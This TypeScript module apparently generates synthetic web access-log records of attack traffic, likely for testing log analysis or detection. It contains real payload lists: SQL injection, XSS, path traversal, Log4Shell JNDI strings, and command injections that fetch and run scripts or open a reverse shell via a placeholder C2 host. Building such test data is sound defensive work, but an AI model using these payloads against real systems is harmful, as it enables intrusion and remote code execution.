import type { Rng } from './prng.ts';

/** Attack requests as they reach the access log: payloads raw, `+`-spaced or percent-encoded. */

export interface AttackRequest {
  method: string;
  url: string;
  status: number;
  bytes: number;
  referrer?: string;
  userAgent?: string;
}

/** Percent-encodes everything but RFC 3986 unreserved characters. */
export function percentEncode(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const unreserved = (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122) ||
      c === 45 || c === 46 || c === 95 || c === 126;
    out += unreserved ? text[i] : `%${c.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** What a hand-typed URL or a careless script sends: spaces become `+`, `&` and `#` are encoded. */
function plusEncode(text: string): string {
  return text.replace(/&/g, '%26').replace(/#/g, '%23').replace(/ /g, '+');
}

/** Browsers encode spaces, angle brackets and quotes, and leave the rest. */
function browserEncode(text: string): string {
  return text.replace(/[ <>"#&]/g, (c) => percentEncode(c));
}

function encodeSomehow(rng: Rng, text: string): string {
  const roll = rng.next();
  if (roll < 0.4) return percentEncode(text);
  if (roll < 0.75) return plusEncode(text);
  return browserEncode(text);
}

function sized(rng: Rng, status: number, ok: number): number {
  switch (status) {
    case 200: return Math.round(ok * (0.8 + rng.next() * 0.4));
    case 301: return 239;
    case 302: return 0;
    case 400: return 226;
    case 401: return 381;
    case 403: return 277;
    case 404: return 274;
    case 500: return 531;
    default: return 0;
  }
}

function pickStatus(rng: Rng, weights: readonly (readonly [number, number])[]): number {
  let x = rng.next() * weights.reduce((sum, [, w]) => sum + w, 0);
  for (const [status, weight] of weights) {
    x -= weight;
    if (x < 0) return status;
  }
  return weights[0]?.[0] ?? 200;
}

const SQLI = [
  "1' OR 1=1--", "1' OR '1'='1", "' OR 1=1-- -", '1 UNION SELECT NULL,NULL,NULL--',
  "-1' UNION SELECT username,password FROM users--",
  "1' UNION ALL SELECT table_name,NULL FROM information_schema.tables--", '1 AND SLEEP(5)',
  "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--", '1;DROP TABLE users--', "admin'--",
  "1' AND extractvalue(1,concat(0x7e,version()))--", '1 ORDER BY 10--', "1' WAITFOR DELAY '0:0:5'--",
  '1) UNION SELECT @@version,2,3#',
];
const SQLI_TARGETS = ['/products?id=', '/blog/post?id=', '/search?q=', '/api/orders?sort=', '/login?user='];

export function sqliRequest(rng: Rng): AttackRequest {
  const status = pickStatus(rng, [[200, 70], [500, 25], [404, 5]]);
  return { method: 'GET', url: rng.pick(SQLI_TARGETS) + encodeSomehow(rng, rng.pick(SQLI)), status, bytes: sized(rng, status, 12_000) };
}

const XSS = [
  '<script>alert(1)</script>', '<script>alert(document.cookie)</script>', '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<svg/onload=alert(document.domain)>', "<body onload=alert('xss')>",
  '<iframe src=javascript:alert(1)>', '"><img src=x onerror=prompt(1)>', '<details open ontoggle=alert(1)>',
];
const XSS_TARGETS = ['/search?q=', '/contact?name=', '/blog/post?comment=', '/products?id=1&review='];
const REDIRECT_TARGETS = ['/login?next=', '/?redirect=', '/logout?return='];

export function xssRequest(rng: Rng): AttackRequest {
  const status = pickStatus(rng, [[200, 85], [404, 10], [400, 5]]);
  if (rng.chance(0.2)) {
    const payload = rng.pick(['javascript:alert(1)', 'javascript:alert(document.cookie)', 'JaVaScRiPt:alert(1)']);
    return { method: 'GET', url: rng.pick(REDIRECT_TARGETS) + (rng.chance(0.5) ? payload : percentEncode(payload)), status, bytes: sized(rng, status, 5_400) };
  }
  const payload = rng.pick(XSS);
  // Some tools send the payload raw: Apache then logs the quotes escaped (\").
  const url = rng.pick(XSS_TARGETS) + (rng.chance(0.2) ? payload.replace(/ /g, '%20') : encodeSomehow(rng, payload));
  return { method: 'GET', url, status, bytes: sized(rng, status, 13_000) };
}

const TRAVERSAL = [
  '/download?file=../../../../etc/passwd', '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
  '/index.php?page=php://filter/read=convert.base64-encode/resource=../config.php', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/download?file=....//....//....//etc/passwd', '/?file=../../../../../../proc/self/environ',
  '/download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd', '/view?template=../../../../etc/shadow',
  '/index.php?page=/etc/passwd%00', '/download?file=../../../../var/log/apache2/access.log',
  '/index.php?page=file:///etc/passwd', '/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts',
  '/index.php?page=php://input', '/static/..%252f..%252f..%252fetc/passwd',
];

export function traversalRequest(rng: Rng): AttackRequest {
  const status = pickStatus(rng, [[404, 45], [400, 25], [403, 15], [200, 15]]);
  return { method: 'GET', url: rng.pick(TRAVERSAL), status, bytes: sized(rng, status, 2_300) };
}

const CMD_TARGETS = ['/tools/ping?host=', '/cgi-bin/status?cmd=', '/api/diag?ip=', '/tools/lookup?domain='];

export function cmdInjectionRequest(rng: Rng, c2: string): AttackRequest {
  const payloads = [
    '127.0.0.1;id', '127.0.0.1|id', `127.0.0.1|wget http://${c2}/x.sh -O /tmp/x.sh`,
    `;wget\${IFS}http://${c2}/x.sh`, `$(curl http://${c2}/s.sh|sh)`, '127.0.0.1`id`',
    '127.0.0.1;cat /etc/passwd', '127.0.0.1 && uname -a', `example.com||nc ${c2} 4444 -e /bin/sh`,
    `;busybox wget http://${c2}/bins.sh;chmod 777 bins.sh;sh bins.sh`, '127.0.0.1;whoami',
  ];
  const status = pickStatus(rng, [[200, 70], [500, 20], [404, 10]]);
  return { method: 'GET', url: rng.pick(CMD_TARGETS) + encodeSomehow(rng, rng.pick(payloads)), status, bytes: sized(rng, status, 1_800) };
}

export function log4shellRequest(rng: Rng, ldap: string, browserUa: string): AttackRequest {
  const payloads = [
    `\${jndi:ldap://${ldap}:1389/Exploit}`, `\${jndi:ldap://${ldap}:1389/a}`, `\${jndi:dns://${ldap}/x}`,
    `\${jndi:rmi://${ldap}:1099/obj}`, `\${\${lower:j}ndi:\${lower:l}dap://${ldap}:1389/b}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${ldap}:1389/c}`,
    `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://${ldap}/d}`,
  ];
  const payload = rng.pick(payloads);
  const status = pickStatus(rng, [[200, 60], [400, 20], [404, 20]]);
  const where = rng.next();
  if (where < 0.45) return { method: 'GET', url: rng.pick(['/', '/login', '/api/v1/status']), status, bytes: sized(rng, status, 9_000), userAgent: payload };
  if (where < 0.85) {
    const url = `${rng.pick(['/', '/search', '/login'])}?${rng.pick(['x', 'q', 'id'])}=${rng.chance(0.5) ? payload : percentEncode(payload)}`;
    return { method: 'GET', url, status, bytes: sized(rng, status, 9_000), userAgent: browserUa };
  }
  return { method: 'GET', url: '/', status, bytes: sized(rng, status, 18_000), referrer: payload, userAgent: browserUa };
}

const WORDS = [
  'admin', 'administrator', 'api', 'app', 'archive', 'assets', 'auth', 'backup', 'backups', 'bak', 'bin',
  'blog', 'cache', 'cgi-bin', 'client', 'cms', 'config', 'configuration', 'console', 'contact', 'content',
  'cp', 'cpanel', 'css', 'dashboard', 'data', 'database', 'db', 'debug', 'demo', 'dev', 'docs', 'download',
  'downloads', 'dump', 'editor', 'env', 'error', 'export', 'files', 'ftp', 'git', 'hidden', 'home', 'images',
  'img', 'import', 'include', 'includes', 'index', 'info', 'install', 'js', 'lib', 'log', 'logs', 'login',
  'manage', 'manager', 'media', 'members', 'mysql', 'new', 'old', 'panel', 'phpmyadmin', 'portal', 'private',
  'products', 'public', 'register', 'reports', 'restricted', 'root', 'secret', 'secure', 'server-status',
  'service', 'settings', 'setup', 'shell', 'site', 'sql', 'staging', 'static', 'stats', 'status', 'system',
  'temp', 'test', 'tmp', 'tools', 'upload', 'uploads', 'user', 'users', 'vendor', 'web', 'webadmin', 'wp',
  'wp-admin', 'wp-content', 'wp-includes', 'xml', '.git/HEAD', '.env', '.htaccess', '.htpasswd', '.svn',
  '.DS_Store', 'robots.txt', 'sitemap.xml', 'crossdomain.xml', 'web.config', 'phpinfo', 'composer.json',
];
const EXTENSIONS = ['', '.php', '/', '.bak', '.old', '.zip', '.txt', '.html', '.tar.gz', '.sql'];
/** The n-th path of a brute-forcer's wordlist: each word with each extension, in list order. */
export function wordlistPath(n: number): string {
  const word = WORDS[n % WORDS.length] as string;
  const ext = EXTENSIONS[Math.floor(n / WORDS.length) % EXTENSIONS.length] as string;
  return `/${word}${ext}`;
}

/** How the site answers paths a brute-forcer or scanner may hit: [status, bytes]. */
const KNOWN: Record<string, readonly [number, number]> = {
  '/admin': [401, 381], '/admin/': [401, 381], '/login': [200, 5_421], '/docs': [301, 239], '/docs/': [200, 16_890],
  '/blog': [301, 239], '/blog/': [200, 21_034], '/static': [301, 239], '/static/': [403, 277],
  '/products': [301, 239], '/products/': [200, 24_566], '/contact': [200, 7_310], '/robots.txt': [200, 312],
  '/sitemap.xml': [200, 4_871], '/server-status': [403, 277], '/.htaccess': [403, 277], '/.htpasswd': [403, 277],
  '/': [200, 18_420], '/favicon.ico': [200, 15_086], '/icons/README': [200, 5_108],
};

export function probeStatus(path: string): { status: number; bytes: number } {
  const known = KNOWN[path];
  return known ? { status: known[0], bytes: known[1] } : { status: 404, bytes: 274 };
}

export const SCANNER_PROBES = [
  '/', '/robots.txt', '/phpinfo.php', '/info.php', '/.git/config', '/.env', '/wp-login.php', '/xmlrpc.php',
  '/wp-content/plugins/', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/solr/admin/info/system',
  '/actuator/env', '/actuator/health', '/console/', '/manager/html', '/.DS_Store', '/config.json',
  '/server-status', '/server-info', '/cgi-bin/test-cgi', '/cgi-bin/printenv', '/admin.php', '/administrator/',
  '/phpmyadmin/', '/pma/', '/HNAP1/', '/boaform/admin/formLogin', '/cgi-bin/luci', '/.svn/entries',
  '/backup.zip', '/db.sql', '/.aws/credentials', '/api/v1/users', '/swagger-ui.html', '/v2/api-docs',
  '/graphql', '/telescope/requests', '/_profiler/phpinfo', '/owa/auth/logon.aspx', '/remote/login',
  '/global-protect/login.esp', '/jenkins/login', '/druid/index.html', '/login.action', '/web.config',
  '/crossdomain.xml', '/elmah.axd', '/trace.axd', '/.htpasswd', '/.htaccess', '/sitemap.xml', '/login',
  '/admin/', '/icons/README', '/cgi-bin/php-cgi', '/.well-known/security.txt', '/debug/pprof/',
];

export const SCANNER_UAS: readonly { name: string; userAgent: (n: number) => string }[] = [
  { name: 'Nikto', userAgent: (n) => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(n).padStart(6, '0')})` },
  { name: 'Nuclei', userAgent: () => 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
  { name: 'WhatWeb', userAgent: () => 'WhatWeb/0.5.5' },
  { name: 'Wfuzz', userAgent: () => 'Wfuzz/3.1.0' },
  { name: 'ffuf', userAgent: () => 'Fuzz Faster U Fool v2.1.0-dev' },
  { name: 'Wapiti', userAgent: () => 'Mozilla/5.0 (compatible; Wapiti/3.2.2)' },
];

export const LIGHT_SCANNER_UAS = [
  { name: 'Nmap NSE', userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', paths: ['/', '/nmaplowercheck1763622', '/HNAP1', '/evox/about', '/sdk', '/robots.txt'] },
  { name: 'zgrab', userAgent: 'Mozilla/5.0 zgrab/0.x', paths: ['/'] },
  { name: 'masscan', userAgent: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', paths: ['/'] },
];

export const DIR_BRUTE_UAS = [
  'gobuster/3.6', 'gobuster/3.8',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
  'feroxbuster/2.11.0',
];
